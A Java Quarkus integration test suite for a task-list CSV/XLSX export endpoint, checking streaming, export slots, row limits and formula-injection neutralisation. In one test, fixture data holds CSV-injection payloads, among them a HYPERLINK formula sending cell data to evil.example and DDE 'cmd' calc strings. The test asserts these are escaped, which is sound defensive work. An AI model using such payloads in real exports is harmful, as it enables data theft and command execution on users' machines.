package vn.ntm.task.worklist;

import io.agroal.api.AgroalDataSource;
import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;
import jakarta.inject.Inject;
import org.eclipse.microprofile.config.inject.ConfigProperty;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import vn.ntm.task.Auth;
import vn.ntm.task.BulkTasks;
import vn.ntm.task.SlowClient;
import vn.ntm.testinfra.Management;

import java.io.IOException;
import java.io.InputStream;
import java.net.URI;
import java.net.URL;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.sql.Connection;
import java.sql.Statement;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.atomic.AtomicInteger;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.hasItem;
import static org.hamcrest.Matchers.notNullValue;
import static vn.ntm.task.Auth.as;
import static vn.ntm.task.Auth.asAdmin;

/**
 * The CSV export streams from the database: 20 exports of a large table, as many at once as there are slots, each
 * get every row they should, within the test JVM's default heap, while the service keeps answering; an export
 * beyond the slots is refused at once, and a slot is held until its export's database work has ended; the headers say when the row limit cut
 * the file; cells a spreadsheet would run as formulas are neutralised. The table holds {@code ntm.test.export-rows}
 * tasks (1,200 in the default suite, over its cap of 500 rows; {@code -Pload}: 200,000 tasks and the production cap
 * of 50,000; {@code -Pload,export-million}: 1,000,000 tasks).
 */
@QuarkusTest
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class TaskExportTest {
    private static final String PROBLEM = "application/problem+json";
    private static final int ROWS = Integer.getInteger("ntm.test.export-rows", 1_200);
    private static final String PROVINCE = "97";

    @Inject
    AgroalDataSource ds;

    @ConfigProperty(name = "ntm.tasks.export-max-rows")
    int limit;

    @TestHTTPResource("/tasks/export.csv")
    URL export;

    @TestHTTPResource("/tasks")
    URL list;

    @Inject
    ExportSlots slots;

    private UUID bulk;

    @BeforeAll
    void fill() {
        bulk = BulkTasks.insert(ds, PROVINCE, ROWS);
    }

    @AfterAll
    void clean() {
        BulkTasks.delete(ds, bulk);
    }

    @Test
    void twentyExportsThroughEverySlotAtOnceEachStreamTheirRowsAndTheServiceStaysHealthy() throws Exception {
        HttpClient client = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(30)).build();
        String viewer = Auth.viewer(PROVINCE);
        // as many clients as there are slots, each exporting in turn: every export gets its slot
        List<CompletableFuture<List<Export>>> clients = new ArrayList<>();
        for (int c = 0; c < slots.size(); c++) {
            clients.add(CompletableFuture.supplyAsync(() -> {
                List<Export> done = new ArrayList<>();
                for (int i = 0; i < 20 / slots.size(); i++) {
                    try {
                        done.add(read(client.send(HttpRequest.newBuilder(export.toURI())
                                .timeout(Duration.ofMinutes(10)).header("Authorization", viewer).GET().build(),
                                HttpResponse.BodyHandlers.ofInputStream())));
                    } catch (Exception e) {
                        throw new IllegalStateException(e);
                    }
                }
                return done;
            }));
        }
        // other callers are served meanwhile
        AtomicInteger served = new AtomicInteger();
        while (!CompletableFuture.allOf(clients.toArray(CompletableFuture[]::new)).isDone()) {
            HttpResponse<String> page = client.send(HttpRequest.newBuilder(URI.create(list + "?size=1"))
                    .timeout(Duration.ofSeconds(60)).header("Authorization", Auth.admin()).GET().build(),
                    HttpResponse.BodyHandlers.ofString());
            assertThat(page.statusCode()).as(page.body()).isEqualTo(200);
            served.incrementAndGet();
            Thread.sleep(100);
        }
        List<Export> exports = new ArrayList<>();
        for (CompletableFuture<List<Export>> f : clients) {
            exports.addAll(f.get());
        }
        assertThat(exports).hasSize(20);
        for (Export e : exports) {
            assertThat(e.status()).isEqualTo(200);
            assertThat(e.lines()).as("header + rows").isEqualTo(limit + 1);
            assertThat(e.header("X-Truncated")).isEqualTo("true");
            assertThat(e.header("X-Total-Count")).isEqualTo(Integer.toString(ROWS));
            assertThat(e.header("X-Export-Limit")).isEqualTo(Integer.toString(limit));
            // streamed: the length was not known when the response started
            assertThat(e.header("Content-Length")).isNull();
            assertThat(e.firstLine()).startsWith("\uFEFFSTT,Mã nhiệm vụ,Mã đợt kiểm tra,");
        }
        assertThat(served.get()).isPositive();
        assertThat(slots.inUse()).isZero();
        Management.given().when().get("/q/health/ready").then().statusCode(200).body("status", equalTo("UP"));
    }

    /**
     * Every slot taken by XLSX exports whose database work waits (a lock on {@code task} holds their reading): one
     * more export is refused at once with 503 and {@code Retry-After}, without waiting on a worker thread; a client
     * that leaves meanwhile does not free its slot while its export's database work goes on, only once that ended.
     */
    @Test
    void aClientLeavingMidExportKeepsItsSlotUntilTheDatabaseWorkEndsAndOneMoreIsRefusedAtOnce() throws Exception {
        String viewer = Auth.viewer(PROVINCE);
        List<SlowClient> waiting = new ArrayList<>();
        try (Connection lock = ds.getConnection()) {
            lock.setAutoCommit(false);
            try (Statement st = lock.createStatement()) {
                st.execute("lock table task in access exclusive mode");
            }
            for (int i = 0; i < slots.size(); i++) {
                waiting.add(SlowClient.get(export, "/tasks/export.xlsx", viewer));
            }
            await().atMost(Duration.ofSeconds(20)).pollInterval(Duration.ofMillis(20))
                    .until(() -> slots.inUse() == slots.size());

            long started = System.nanoTime();
            as(viewer).when().get("/tasks/export.xlsx").then().statusCode(503).contentType(PROBLEM)
                    .header("Retry-After", notNullValue()).body("code", equalTo("EXPORTS_BUSY"));
            assertThat(Duration.ofNanos(System.nanoTime() - started)).isLessThan(Duration.ofSeconds(2));

            // the first client leaves while its export waits on the database: the slot stays taken
            waiting.remove(0).close();
            Thread.sleep(200);
            assertThat(slots.inUse()).isEqualTo(slots.size());
            as(viewer).when().get("/tasks/export.csv").then().statusCode(503).contentType(PROBLEM);
            lock.rollback();
        }
        // the database work ends: every slot comes back (an XLSX export's once its rows are read, however slowly its
        // client then takes the workbook), and the clients still there get their workbooks
        await().atMost(Duration.ofSeconds(30)).pollInterval(Duration.ofMillis(20)).until(() -> slots.inUse() == 0);
        for (SlowClient client : waiting) {
            try (client) {
                assertThat(client.status()).isEqualTo(200);
            }
        }
        as(viewer).queryParam("criterion", 3).when().get("/tasks/export.xlsx").then().statusCode(200);
    }

    @Test
    void anExportWithinTheLimitSaysItIsComplete() throws Exception {
        long expected = BulkTasks.count(ds, "select count(*) from task where province_code = ? and status = 'OPEN'"
                + " and criterion = 3", PROVINCE);
        HttpResponse<InputStream> response = HttpClient.newHttpClient().send(HttpRequest.newBuilder(
                        URI.create(export + "?status=OPEN&criterion=3")).header("Authorization", Auth.viewer(PROVINCE))
                .GET().build(), HttpResponse.BodyHandlers.ofInputStream());
        Export e = read(response);
        assertThat(e.status()).isEqualTo(200);
        assertThat(e.header("X-Truncated")).isEqualTo("false");
        assertThat(e.header("X-Total-Count")).isEqualTo(Long.toString(expected));
        assertThat(e.lines()).isEqualTo(expected + 1);
    }

    @Test
    void refusesAnExportOverTheLimitWhenAskedToAndNamesTheLimit() {
        as(Auth.viewer(PROVINCE)).queryParam("onLimit", "refuse").when().get("/tasks/export.csv")
                .then().statusCode(422).contentType(PROBLEM).body("code", equalTo("EXPORT_TOO_LARGE"))
                .body("title", equalTo("Dữ liệu xuất quá lớn"))
                .body("detail", containsString("Có " + grouped(ROWS) + " nhiệm vụ phù hợp"))
                .body("detail", containsString("giới hạn xuất " + grouped(limit) + " dòng"))
                .body("errors.field", hasItem("onLimit"));
        as(Auth.viewer(PROVINCE)).queryParam("onLimit", "sometimes").when().get("/tasks/export.csv")
                .then().statusCode(400).contentType(PROBLEM).body("errors.field", hasItem("onLimit"));
        // within the limit, refuse changes nothing
        as(Auth.viewer(PROVINCE)).queryParam("onLimit", "refuse").queryParam("criterion", 3)
                .queryParam("status", "OPEN").when().get("/tasks/export.csv")
                .then().statusCode(200).header("X-Truncated", "false");
    }

    @Test
    void neutralisesCellsThatASpreadsheetWouldRunAsFormulas() {
        UUID inspectionId = UUID.randomUUID();
        Map<String, String> titles = new java.util.LinkedHashMap<>();
        titles.put("a", "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Bấm vào đây\")");
        titles.put("b", "+84 912 345 678");
        titles.put("c", "-2+3+cmd|' /C calc'!A0");
        titles.put("d", "@SUM(1+1)*cmd|' /C calc'!A0");
        titles.put("e", "\tTab đầu dòng");
        titles.put("f", "\rVề đầu dòng");
        titles.put("g", "Hoàn thành tiêu chí số 17 (Môi trường), xã Thượng Cường");
        titles.forEach((ref, title) -> BulkTasks.execute(ds, "insert into task (id, inspection_id, rule_code,"
                + " source_ref, commune_code, commune_name, province_code, criterion, criterion_name, assignee_type,"
                + " assignee_code, assignee_name, title, due_date, status, created_at, updated_at) values"
                + " (gen_random_uuid(), ?, 'CSV', ?, '06490', ?, '20', 17, 'Môi trường', 'UBND_XA', '06490',"
                + " '=1+1', ?, date '2090-12-31', 'OPEN', now(), now())", inspectionId, ref,
                ref.equals("a") ? "=cmd|' /C calc'!A0" : "Thượng Cường", title));
        try {
            byte[] body = asAdmin().queryParam("inspectionId", inspectionId).queryParam("sort", "title")
                    .queryParam("format", "machine").when().get("/tasks/export.csv").then().statusCode(200).extract().asByteArray();
            List<List<String>> rows = parse(new String(body, StandardCharsets.UTF_8).substring(1));
            assertThat(rows).hasSize(titles.size() + 1);
            List<String> header = rows.get(0);
            int title = header.indexOf("title");
            int commune = header.indexOf("communeName");
            int assignee = header.indexOf("assigneeName");
            List<String> exported = rows.subList(1, rows.size()).stream().map(r -> r.get(title)).toList();
            assertThat(exported).containsExactlyInAnyOrder(
                    "'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Bấm vào đây\")",
                    "'+84 912 345 678",
                    "'-2+3+cmd|' /C calc'!A0",
                    "'@SUM(1+1)*cmd|' /C calc'!A0",
                    "'\tTab đầu dòng",
                    "'\rVề đầu dòng",
                    "Hoàn thành tiêu chí số 17 (Môi trường), xã Thượng Cường");
            assertThat(rows.subList(1, rows.size())).allSatisfy(r -> {
                assertThat(r.get(assignee)).isEqualTo("'=1+1");
                assertThat(r.get(commune)).isIn("'=cmd|' /C calc'!A0", "Thượng Cường");
            });
            // no cell of the file starts a formula
            assertThat(rows).allSatisfy(r -> assertThat(r).allSatisfy(cell ->
                    assertThat(cell).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("-")
                            .doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r")));
        } finally {
            BulkTasks.delete(ds, inspectionId);
        }
    }

    private record Export(int status, Map<String, List<String>> headers, long lines, String firstLine) {
        String header(String name) {
            return headers.entrySet().stream().filter(h -> h.getKey().equalsIgnoreCase(name))
                    .map(h -> h.getValue().get(0)).findFirst().orElse(null);
        }
    }

    /** Counts the lines as they arrive, keeping only the first: the test JVM holds no export in memory. */
    private static Export read(HttpResponse<InputStream> response) {
        try (InputStream in = response.body()) {
            byte[] buffer = new byte[64 * 1024];
            long lines = 0;
            StringBuilder first = new StringBuilder();
            java.io.ByteArrayOutputStream firstBytes = new java.io.ByteArrayOutputStream();
            boolean inFirst = true;
            for (int n; (n = in.read(buffer)) > 0; ) {
                for (int i = 0; i < n; i++) {
                    if (buffer[i] == '\n') {
                        lines++;
                        inFirst = false;
                    } else if (inFirst) {
                        firstBytes.write(buffer[i]);
                    }
                }
            }
            first.append(firstBytes.toString(StandardCharsets.UTF_8).strip());
            return new Export(response.statusCode(), response.headers().map(), lines, first.toString());
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

    /** RFC 4180: fields separated by commas, records by CRLF, quoted fields may hold both; quotes doubled. */
    static List<List<String>> parse(String csv) {
        List<List<String>> rows = new ArrayList<>();
        List<String> row = new ArrayList<>();
        StringBuilder field = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < csv.length(); i++) {
            char c = csv.charAt(i);
            if (quoted) {
                if (c == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
                    field.append('"');
                    i++;
                } else if (c == '"') {
                    quoted = false;
                } else {
                    field.append(c);
                }
            } else if (c == '"') {
                quoted = true;
            } else if (c == ',') {
                row.add(field.toString());
                field.setLength(0);
            } else if (c == '\r' && i + 1 < csv.length() && csv.charAt(i + 1) == '\n') {
                row.add(field.toString());
                field.setLength(0);
                rows.add(row);
                row = new ArrayList<>();
                i++;
            } else {
                field.append(c);
            }
        }
        return rows;
    }

    /** A count as the Vietnamese messages write it (1.200). */
    private static String grouped(long n) {
        return java.text.NumberFormat.getIntegerInstance(java.util.Locale.forLanguageTag("vi")).format(n);
    }
}
